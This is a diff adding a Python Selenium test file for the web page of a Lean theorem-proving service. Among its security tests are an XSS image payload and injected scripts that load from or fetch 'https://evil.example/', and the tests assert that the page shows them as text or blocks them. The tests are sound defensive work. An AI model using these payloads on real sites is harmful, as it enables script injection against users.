@@ -1,0 +1,306 @@
+"""The web page in a real browser, before a real server and a real Lean."""
+
+import asyncio
+import functools
+import json
+import time
+from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+import pytest_asyncio
+from selenium import webdriver
+from selenium.webdriver.common.by import By
+from selenium.webdriver.common.keys import Keys
+
+from prover.lean.embedded.package import Package
+from prover.lean.pool import WorkerPool
+from prover.lean.stats import State
+from service.config import HttpSettings, SecuritySettings, ServerSettings, Settings
+from service.engine import Engine
+from service.requests import ServedModel, ServiceInfo
+from service.security import tokens
+from service.security.identity import Role
+from service.server import listening
+from tests.npm import file_of
+
+from .browser import Page
+
+pytestmark = [pytest.mark.lean, pytest.mark.timeout(600)]
+
+AXE = Package(
+    "axe-core",
+    "4.14.1",
+    "FHfa+lmNjQZfJz1q8wKqIDwC6DExcHt/pkjNQb09a3NPjCKg2rhu5qb2S4r76ASyFNNtuFooJpZe37OgudVGtQ==",
+)
+IMAGE = "<img src=x onerror=document.title='pwned'>"
+
+
+def in_thread(test: Callable[..., None]) -> Callable[..., Awaitable[None]]:
+    """Run a test beside the event loop, in which the server lives."""
+
+    @functools.wraps(test)
+    async def run(**fixtures: Any) -> None:
+        await asyncio.to_thread(test, **fixtures)
+
+    return run
+
+
+@pytest.fixture
+def page(browser: webdriver.Chrome) -> Iterator[Callable[[str], Page]]:
+    """Opens the page of a server; whatever a test does with it, no policy is violated and no other host is asked."""
+    opened: list[tuple[str, Page]] = []
+
+    def open_page(url: str) -> Page:
+        opened.append((url, Page(browser, url)))
+        return opened[-1][1]
+
+    yield open_page
+    ((url, last),) = opened
+    asked = [str(request["url"]) for request in last.requests()]
+    assert [other for other in asked if not other.startswith(f"{url}/")] == []
+    assert last.complaints() == []
+
+
+@in_thread
+def test_abbreviations_become_unicode(bridge: str, page: Callable[[str], Page]) -> None:
+    it = page(bridge)
+    it.type("statement", r"theorem t (\alpha : Prop) : \alpha \to \a")
+    assert it.value("statement") == "theorem t (α : Prop) : α → \\a", "more may follow"
+    it.get("statement").send_keys(Keys.TAB)
+    assert it.value("statement") == "theorem t (α : Prop) : α → α"
+    it.type("statement", r"\<>")
+    it.get("statement").send_keys("x")
+    assert it.value("statement") == "⟨x⟩"
+    it.get("statement").send_keys(Keys.HOME, r"\forall x, y\_1 \ne \\ ")
+    assert it.value("statement").rstrip() == "∀ x, y₁ ≠ \\ ⟨x⟩"
+    assert it.get("statement").get_property("selectionStart") == len("∀ x, y₁ ≠ \\ ")
+
+
+@in_thread
+def test_a_theorem_is_proved_and_what_is_copied_is_verified_again(bridge: str, page: Callable[[str], Page]) -> None:
+    it = page(bridge)
+    assert it.text("health").startswith("ready · Lean 4.")
+    it.type("statement", "theorem swap (a b : Nat) : a + b = b + a")
+    it.type("proofs", "2")
+    it.get("proofs").send_keys(Keys.CONTROL, Keys.ENTER)
+    it.until_done()
+    it.until(lambda: it.text("said") == "2 verified proofs: as many as were wanted.")
+    cards = it.all(".proof")
+    assert len(cards) == 2
+    assert "a b : Nat\n⊢ a + b = b + a" in it.text("found")
+    assert "Diversity of the 2 proofs" in it.text("found")
+    (request,) = [one for one in it.requests() if str(one["url"]).endswith("/v1/prove")]
+    sent = json.loads(str(request["postData"]))
+    assert sent["options"]["budget"]["proofs"] == 2
+    assert "sampling" not in sent["options"], "without models there is nothing to choose"
+    assert not it.get("focus").is_enabled()
+
+    proof = cards[0].find_element(By.TAG_NAME, "pre").text
+    copy, copy_all = cards[0].find_elements(By.CLASS_NAME, "copy")
+    copy_all.click()
+    it.until(lambda: copy_all.text == "Copied")
+    it.unfold("proof")
+    it.get("proof").send_keys(Keys.CONTROL, "v")
+    it.until(lambda: it.value("proof") == f"theorem swap (a b : Nat) : a + b = b + a := {proof}\n")
+    copy.click()
+    it.until(lambda: copy.text == "Copied")
+    it.get("proof").clear()
+    it.get("proof").send_keys(Keys.CONTROL, "v")
+    it.until(lambda: it.value("proof") == proof)
+    it.press("check")
+    it.until(lambda: it.text("said") == "Your proof is verified.")
+    assert "✓ verified" in it.text("found")
+
+
+@in_thread
+def test_what_others_wrote_is_shown_as_text_and_runs_nothing(bridge: str, page: Callable[[str], Page]) -> None:
+    it = page(bridge)
+    title = it.driver.title
+    it.unfold("proof")
+    it.driver.execute_script(
+        "document.getElementById('proof').value = arguments[0]", f'by exact ("{IMAGE}\u202e" : Nat)'
+    )
+    it.press("check")
+    it.until(lambda: "not verified: rejected" in it.text("said"))
+    shown = [element.text for element in it.all("#found pre")]
+    assert shown[0] == f'by exact ("{IMAGE}\\u{{202e}}" : Nat)'
+    assert any("<img src=x" in text for text in shown[1:]), "Lean's message repeats it"
+    it.type("statement", f'theorem x (s : String) (h : s = "{IMAGE}") : s = "{IMAGE}"')
+    it.press("find")
+    it.until(lambda: "verified proof" in it.text("said"))
+    assert f'⊢ s = "{IMAGE}"' in it.text("found"), "the goal as Lean prints it"
+    assert it.all("main img") == []
+    assert it.driver.title == title
+
+
+@in_thread
+def test_the_browser_refuses_scripts_that_are_not_the_servers(bridge: str, page: Callable[[str], Page]) -> None:
+    it = page(bridge)
+    for attack, refusal in (
+        ("document.body.innerHTML = '<b>x</b>'", "TrustedHTML"),
+        ("const made = document.createElement('script'); made.text = 'document.title = 1'", "TrustedScript"),
+        ("document.body.setAttribute('onclick', 'document.title = 1')", "TrustedScript"),
+        ("const made = document.createElement('script'); made.src = 'https://evil.example/x.js'", "TrustedScriptURL"),
+        ("fetch('https://evil.example/')", "connect-src"),
+    ):
+        it.driver.execute_script(f"try {{ {attack} }} catch {{}}")
+        complaints: list[str] = []
+        it.until(lambda found=complaints: found.extend(it.complaints()) or found)
+        assert refusal in complaints[0]
+    assert it.driver.title != "1"
+    assert it.all("h1")
+
+
+@in_thread
+def test_leans_word_on_a_bad_theorem_is_shown_where_it_belongs(bridge: str, page: Callable[[str], Page]) -> None:
+    it = page(bridge)
+    it.type("statement", "theorem bad (a : Nat) :")
+    it.get("statement").send_keys(Keys.ENTER, "a = missing")
+    it.press("find")
+    it.until_done()
+    (problem,) = it.all(".problem")
+    assert problem.text.startswith("The statement does not elaborate:\nstatement 2:4\n")
+    assert "missing" in problem.text
+    assert it.get("statement").get_attribute("aria-invalid") == "true"
+    assert it.get("statement").get_property("selectionStart") == len("theorem bad (a : Nat) :\na = ")
+    it.type("statement", "theorem good : True")
+    it.unfold("header")
+    it.type("header", "import Nowhere.At.All")
+    it.press("find")
+    it.until_done()
+    assert it.get("statement").get_attribute("aria-invalid") is None
+    assert it.get("header").get_attribute("aria-invalid") == "true"
+    assert "Nowhere" in it.text("found")
+    it.type("header", "")
+    it.type("seconds", "100000")
+    it.press("find")
+    assert it.driver.execute_script("return document.getElementById('seconds').validity.rangeOverflow")
+
+
+@in_thread
+def test_cancel_ends_the_search_on_the_server(bridge: str, page: Callable[[str], Page], lean_pool: WorkerPool) -> None:
+    it = page(bridge)
+    it.type("statement", "theorem wrong (a b : Nat) : a + b = b + a + 1")
+    it.type("samples", "1000")
+    it.press("find")
+    it.until(lambda: "checked" in it.text("found"))
+    it.press("cancel")
+    it.until(lambda: it.text("said").startswith("Cancelled"))
+    it.until(lambda: not lean_pool.stats().in_state(State.BUSY) and not lean_pool.stats().queued)
+    verdicts = sum(lean_pool.stats().verdicts.values())
+    time.sleep(0.5)
+    assert sum(lean_pool.stats().verdicts.values()) == verdicts
+    assert it.get("find").is_displayed()
+    assert it.driver.switch_to.active_element == it.get("find")
+
+
+@in_thread
+def test_a_server_that_is_gone_is_said_in_a_sentence(bridge: str, page: Callable[[str], Page]) -> None:
+    it = page(bridge)
+    conditions = {"latency": 0, "downloadThroughput": 0, "uploadThroughput": 0}
+    it.driver.execute_cdp_cmd("Network.enable", {})
+    it.driver.execute_cdp_cmd("Network.emulateNetworkConditions", {"offline": True, **conditions})
+    try:
+        it.press("find")
+        it.until_done()
+        assert "cannot be reached" in it.text("found")
+        it.until(lambda: it.text("health") == "cannot be reached")
+    finally:
+        it.driver.execute_cdp_cmd("Network.emulateNetworkConditions", {"offline": False, **conditions})
+
+
+class WithModels(Engine):
+    """Never started, and says that it has models: real ones take vLLM a minute to load."""
+
+    async def info(self) -> ServiceInfo:
+        models = (ServedModel("base"), ServedModel("<b>bold</b>", 0.25))
+        return replace(await super().info(), models=models)
+
+
+@pytest_asyncio.fixture(loop_scope="session")
+async def guarded(tmp_path: Path) -> AsyncIterator[tuple[str, str]]:
+    """A server that wants a token, and one."""
+    file = tmp_path / "tokens.toml"
+    token = tokens.new(file, "visitor", [Role.PROVE])
+    settings = Settings(
+        server=ServerSettings(listen="127.0.0.1:0", drain_seconds=1),
+        http=HttpSettings(listen="127.0.0.1:0"),
+        security=SecuritySettings(tokens=file),
+    )
+    urls: list[str] = []
+    async with listening(WithModels(settings), settings, asyncio.Event(), announce_http=urls.append):
+        yield urls[0], token
+
+
+@in_thread
+def test_token_and_slider_are_sent_to_a_server_that_says_it_has_models(
+    guarded: tuple[str, str], page: Callable[[str], Page]
+) -> None:
+    url, token = guarded
+    it = page(url)
+    it.until(lambda: it.get("token").is_displayed())
+    it.type("token", "wrong" + Keys.TAB)
+    it.press("find")
+    it.until(lambda: "wants a token" in it.text("found"))
+    assert not it.get("focus").is_enabled()
+    it.type("token", token + Keys.TAB)
+    it.until(lambda: it.get("focus").is_enabled())
+    assert it.text("focus-help") == "Chooses among 2 models: base, α = 0.25."
+    it.press("server")
+    assert "<b>bold</b>" in it.text("about")
+    it.press("server")
+    it.get("focus").send_keys(Keys.END, Keys.ARROW_LEFT)
+    assert it.text("focus-shown") == "0.95"
+    it.requests()
+    it.press("find")
+    it.until_done()
+    (request,) = [one for one in it.requests() if str(one["url"]).endswith("/v1/prove")]
+    assert json.loads(str(request["postData"]))["options"]["sampling"] == {"focus": 0.95}
+    headers: Any = request["headers"]
+    assert headers["Authorization"] == f"Bearer {token}"
+    assert it.text("found") == "The server is busy: Lean and the samplers are still starting. Try again in 2 s."
+    assert it.driver.execute_script("return localStorage.length + sessionStorage.length + document.cookie.length") == 0
+
+
+@in_thread
+def test_the_page_is_accessible_in_light_and_dark_and_on_a_phone(bridge: str, page: Callable[[str], Page]) -> None:
+    it = page(bridge)
+    axe = file_of(AXE, "axe.min.js").read_text(encoding="utf-8")
+    it.driver.execute_script("for (const each of document.querySelectorAll('details')) each.open = true")
+    it.type("proof", "by rfl")
+    it.press("check")
+    it.until(lambda: "rejected" in it.text("said"))
+    it.driver.execute_script(axe)
+    for scheme, width in (("light", 1280), ("dark", 360)):
+        features = [
+            {"name": "prefers-color-scheme", "value": scheme},
+            {"name": "prefers-reduced-motion", "value": "reduce"},
+        ]
+        it.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": features})
+        it.driver.execute_cdp_cmd(
+            "Emulation.setDeviceMetricsOverride",
+            {"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": False},
+        )
+        try:
+            found = it.driver.execute_async_script("axe.run().then(arguments[0])")
+            assert [(one["id"], [node["html"] for node in one["nodes"]]) for one in found["violations"]] == []
+            assert it.driver.execute_script("return document.documentElement.scrollWidth") <= width
+        finally:
+            it.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})
+            it.driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
+
+
+@in_thread
+def test_the_keyboard_reaches_everything_in_the_order_of_the_page(bridge: str, page: Callable[[str], Page]) -> None:
+    it = page(bridge)
+    reached = []
+    for _ in range(12):
+        it.driver.switch_to.active_element.send_keys(Keys.TAB)
+        now = it.driver.switch_to.active_element
+        reached.append(now.get_attribute("id") or now.text)
+    assert reached[0] == "Skip to the results"
+    order = [name for name in reached if name in ("statement", "Header and context", "proofs", "seconds", "samples")]
+    assert order == ["statement", "Header and context", "proofs", "seconds", "samples"]
